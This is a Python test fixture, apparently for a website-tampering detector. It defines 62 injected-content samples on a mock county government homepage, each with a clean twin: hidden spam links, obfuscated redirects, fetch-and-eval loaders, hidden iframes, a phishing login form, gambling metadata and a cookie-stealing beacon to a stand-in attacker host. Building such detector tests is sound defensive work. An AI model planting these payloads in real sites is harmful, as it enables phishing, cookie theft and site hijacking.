"""Sixty-two attacks, usual kinds in usual spellings, sealed before they were judged; each with its clean twin."""

import base64
from collections.abc import Iterator

from tests.pages.imitations.attacks import BAD, GOOD, Attack, home

_HOST = BAD.removeprefix("http://")
_LINKS = f"<a href='{BAD}/r1'>冷却塔填料</a>|<a href='{BAD}/r2'>同城速递</a>|<a href='{BAD}/r3'>家电维修</a>"
_KNOWN = f"<a href='{GOOD}/'>云山旅游</a>|<a href='https://www.mwr.gov.cn/'>水利部</a>"
_TITLE = "<title>首页_云山县人民政府</title>"
_CODE = base64.b64encode(f"window.location.href='{BAD}/k'".encode()).decode()


def _put(name: str, page: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(name, home(page), home(twin), plain)


def _run(name: str, script: str, twin: str, *, plain: bool = True) -> Attack:
    return _put(name, f"<script>{script}</script>", f"<script>{twin}</script>", plain=plain)


def _wrap(name: str, around: str, twin: str, *, plain: bool = True) -> Attack:
    return _put(name, around.replace("{}", _LINKS), twin.replace("{}", _KNOWN), plain=plain)


def _head(name: str, head: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(name, home(head=head), home(head=twin), plain)


def _title(name: str, title: str, twin: str, *, plain: bool = True) -> Attack:
    page, other = (home().replace(_TITLE, f"<title>{each}</title>") for each in (title, twin))
    return Attack(name, page, other, plain)


def _out_of_sight() -> Iterator[Attack]:
    for name, style, twin in (
        ("nothing is displayed", "display:none;", "display:grid;"),
        ("top by a thousand", "position:absolute;top:-1000px", "position:absolute;top:10px"),
        ("left by percentages", "position:absolute;left:-9999%", "position:relative;left:1%"),
        ("low and wide", "height:2px;width:900px;overflow:hidden;", "height:62px;width:900px;overflow:hidden;"),
        ("not visible at all", "visibility:hidden;font-size:12px", "visibility:visible;font-size:12px"),
        ("size of a mite", "font-size:1px;line-height:1px;color:#ffffff;", "font-size:13px;line-height:2;color:#333;"),
        ("filtered for old ones", "filter:alpha(opacity=0);-moz-opacity:0;opacity:0", "filter:none;opacity:1"),
        ("scaled to a point", "-webkit-transform:scale(0);transform:scale(0)", "transform:scale(1)"),
        ("margin off the top", "margin-top:-3000px;position:absolute", "margin-top:30px;position:static"),
        ("white upon white, in words", "background:white;color:white", "background:white;color:black"),
    ):
        yield _wrap(name, f'<div style="{style}">{{}}</div>', f'<div style="{twin}">{{}}</div>')
    yield _wrap("noscript of links", "<noscript>{}</noscript>", "<noscript><p>本站需要脚本</p></noscript>")
    yield _wrap(
        "sheet by an id",
        "<style type='text/css'>#zt9{position:absolute;top:-800px;}</style><div id='zt9'>{}</div>",
        "<style type='text/css'>#zt9{position:relative;top:8px;}</style><div id='zt9'>{}</div>",
    )
    yield _wrap(
        "spans in a sheet",
        "<style>.b7 span{font-size:0}</style><p class='b7'><span>{}</span></p>",
        "<style>.b7 span{font-size:1em}</style><p class='b7'><span>{}</span></p>",
    )
    yield _wrap(
        "list by a script",
        "<ul id='u5'><li>{}</li></ul><script>var u=document.getElementById('u5');u.style.display='none';</script>",
        "<ul id='u5'><li>{}</li></ul><script>var u=document.getElementById('u5');u.style.display='';</script>",
    )
    yield _wrap(
        "visible no more",
        "<div id='v5'>{}</div><script>document.getElementById('v5').style.visibility='hidden'</script>",
        "<div id='v5'>{}</div><script>document.getElementById('v5').style.visibility='inherit'</script>",
    )
    yield _wrap(
        "between writings",
        "<script>document.write(\"<div id=w5 style='display:none'>\")</script>{}"
        '<script>document.write("</div>")</script>',
        "<script>document.write(\"<div id=w5 style='display:flex'>\")</script>{}"
        '<script>document.write("</div>")</script>',
    )
    yield _wrap(
        "line of one pixel",
        "<marquee width='1' height='1' scrollamount='1'>{}</marquee>",
        "<marquee width='100%' height='26' scrollamount='3'>{}</marquee>",
    )


def _away() -> Iterator[Attack]:
    yield _run("now", f'location.href="{BAD}/n1"', 'location.href="#n1"')
    yield _run("in a second", f"setTimeout(\"location.href='{BAD}/n2'\",1000)", 'setTimeout("clock()",1000)')
    yield _run("top of all", f"if(top!=null){{top.location='{BAD}/n3'}}", "if(top!=null){top.focus()}")
    yield _run(
        "guests of searchers",
        f"if(document.referrer.match(/baidu|sogou|bing/)){{location.replace('{BAD}/n4')}}",
        "if(document.referrer.match(/zwfw|xwzx/)){sessionStorage.from=1}",
    )
    yield _run(
        "guests with telephones",
        f'if(/mobile|android|iphone/i.test(navigator.userAgent)){{window.location.href="{BAD}/n5"}}',
        'if(/mobile|android|iphone/i.test(navigator.userAgent)){window.location.href="/wap/"}',
    )
    yield _run("run from sixty-four", f"eval(window.atob('{_CODE}'))", "tip(window.atob('5LqR'))")
    yield _run(
        "run from numbers",
        "eval(String.fromCharCode(" + ",".join(str(ord(char)) for char in f"location='{BAD}/n7'") + "))",
        "tip(String.fromCharCode(20113,23665,21439))",
    )
    yield _run("two halves", f"location['hr'+'ef']='ht'+'tp://{_HOST}/n8'", "location['ha'+'sh']='n'+'8'")
    yield _run("text to code", f"setInterval(\"location='{BAD}/n9'\",800)", 'setInterval("roll()",800)')
    yield _run(
        "when all is there",
        f"window.addEventListener('load',function(){{location.href='{BAD}/n10'}})",
        "window.addEventListener('load',function(){banner.start()})",
    )
    yield _run(
        "at the first press",
        f"document.addEventListener('click',function(){{location.href='{BAD}/n11'}},true)",
        "document.addEventListener('click',function(){menu.close()},true)",
    )
    yield _run(
        "back again",
        f"history.pushState(null,'',location.href);addEventListener('popstate',function(){{location.href='{BAD}/n12'}})",
        "history.pushState(null,'',location.href);addEventListener('popstate',function(){tabs.show(0)})",
    )
    yield _run("written over", f"document.write('<meta http-equiv=refresh content=\"0;url={BAD}/n13\">')",
               "document.write('<meta name=x content=1>')")  # fmt: skip
    yield _run("got and run", f"$.getScript('{BAD}/n14.js')", "$.getScript('/js/n14.js')")
    yield _run(
        "fetched and run again",
        f"fetch('{BAD}/n15').then(x=>x.text()).then(x=>eval(x))",
        "fetch('/n15.json').then(x=>x.json()).then(x=>draw(x))",
    )
    yield _run(
        "page in a page",
        f'document.body.innerHTML=\'<iframe src="{BAD}/n16" style="width:100%;height:100%"></iframe>\'',
        "document.getElementById('b').innerHTML='<p>加载中</p>'",
    )
    yield _run(
        "obfuscator again",
        "var _0x51ab=['\\x68','\\x74'];var _0x51ac=function(_0x51ad,_0x51ae){return _0x51ab[_0x51ad-0x0]};_0x51ac(0x0)",
        "var list=['h','t'];var pick=function(a,b){return list[a-0]};pick(0)",
    )
    yield _run("cookie thief", f"new Image().src='{BAD}/n18?'+document.cookie", "new Image().src='/n18?'+Date.now()")


def _called() -> Iterator[Attack]:
    yield _title("title one", "太阳城娱乐_澳门太阳城官网", "太阳能路灯建设_云山县人民政府")
    yield _title("title two", "彩票走势图_时时彩投注平台", "福利彩票公益金使用公告_云山县人民政府")
    yield _title("title three", "BOB体育·登录入口", "云山县人民政府·登录入口", plain=False)
    yield _head("keywords one", "<meta name='keywords' content='百家乐,老虎机,在线赌场'>",
                "<meta name='keywords' content='百家姓,老年人,在线办事'>")  # fmt: skip
    yield _head("description one", "<meta name='description' content='澳门新葡京赌场，提供真人荷官'>",
                "<meta name='description' content='云山县新闻中心，提供真实权威信息'>")  # fmt: skip
    yield _head("refresh one", f"<meta http-equiv='refresh' content='0; url={BAD}/m1'>",
                "<meta http-equiv='refresh' content='900; url=/'>")  # fmt: skip
    yield _head("canonical one", f"<link rel='canonical' href='{BAD}/m2'/>", "<link rel='canonical' href='/m2'/>")
    yield _head("base one", f"<base href='//{_HOST}/'>", "<base href='//www.yunshan.example/'>")
    yield _put("words in sight", "<p>澳门赌场在线开户，真人百家乐投注</p>", "<p>打击网上赌博宣传周，发放资料千份</p>")
    yield _put("boast", "<h1>Hacked by Anonymous_CN</h1>", "<h1>网络安全宣传周启动</h1>")
    yield _put(
        "links with words", f"<div><a href='{BAD}/m3'>澳门赌场</a><a href='{BAD}/m4'>百家乐</a></div>",
        f"<div><a href='{GOOD}/m3'>澳门青年交流</a><a href='{GOOD}/m4'>百家宴</a></div>",
    )  # fmt: skip


def _set_in() -> Iterator[Attack]:
    yield _put("frame one", f"<iframe src='{BAD}/s1' width='0' height='0' style='display:none'></iframe>",
               "<iframe src='/s1' width='300' height='80'></iframe>")  # fmt: skip
    yield _put("frame two", f"<iframe src='{BAD}/s2' style='position:absolute;top:-500px;left:-500px'></iframe>",
               "<iframe src='/s2' style='position:relative;top:5px'></iframe>")  # fmt: skip
    yield _put("frame three", f"<iframe src='{BAD}/s3' width='500' height='300'></iframe>",
               "<iframe src='/spbf/s3' width='500' height='300'></iframe>", plain=False)  # fmt: skip
    yield _put("script one", f"<script src='{BAD}/s4.js'></script>", "<script src='/js/s4.js?v=20261127'></script>",
               plain=False)  # fmt: skip
    yield _run(
        "script two",
        f"var e=document.createElement('script');e.src='//{_HOST}/s5.js';document.body.appendChild(e)",
        "var e=document.createElement('script');e.src='/js/s5.js';document.body.appendChild(e)",
        plain=False,
    )
    yield _run("script three", f"document.write('<script src={BAD}/s6.js><\\/script>')",
               "document.write('<script src=/js/s6.js><\\/script>')", plain=False)  # fmt: skip
    yield _put(
        "picture that errs", f"<img src=e onerror=\"location='{BAD}/s7'\">", '<img src=e onerror="this.hidden=1">'
    )
    yield _put("drawing that loads itself", f"<svg onload=\"location.href='{BAD}/s8'\"/>", '<svg onload="spin()"/>')
    yield _put("form for a login",
               f"<form action='{BAD}/s9'>用户名<input name=a>密码<input type=password name=b></form>",
               "<form action='/s9'>用户名<input name=a>密码<input type=password name=b></form>")  # fmt: skip
    yield _put("form for a search", f"<form action='{BAD}/s10'><input name=k><input type=submit></form>",
               "<form action='/s10'><input name=k><input type=submit></form>", plain=False)  # fmt: skip
    yield _put("object one", f"<object data='{BAD}/s11' width='1' height='1'></object>",
               "<object data='/s11.pdf' width='600' height='800'></object>")  # fmt: skip
    yield _head("sheet one", f"<link rel='stylesheet' href='{BAD}/s12.css'>",
                "<style>html{filter:grayscale(100%);-webkit-filter:grayscale(100%)}</style>", plain=False)  # fmt: skip
    yield Attack(
        "menu one",
        home().replace("<a href='/3/'>互动交流</a>", f"<a href='{BAD}/s13'>互动交流</a>"),
        home().replace("<a href='/3/'>互动交流</a>", "<a href='/hdjl/'>互动交流</a><a href='/sjfb/'>数据发布</a>"),
        plain=False,
    )
    yield _put(
        "archive one", f"<a href='{BAD}/s14.exe'>驱动下载</a>", "<a href='/fj/s14.doc'>附件下载</a>", plain=False
    )
    yield _wrap("class one", "<div class='hidden'>{}</div>", "<div class='links'>{}</div>", plain=False)
    yield _run("worker one", "navigator.serviceWorker.register('/images/sw.js')", "navigator.onLine||tip('断网')",
               plain=False)  # fmt: skip


CLOSING_ATTACKS = (*_out_of_sight(), *_away(), *_called(), *_set_in())
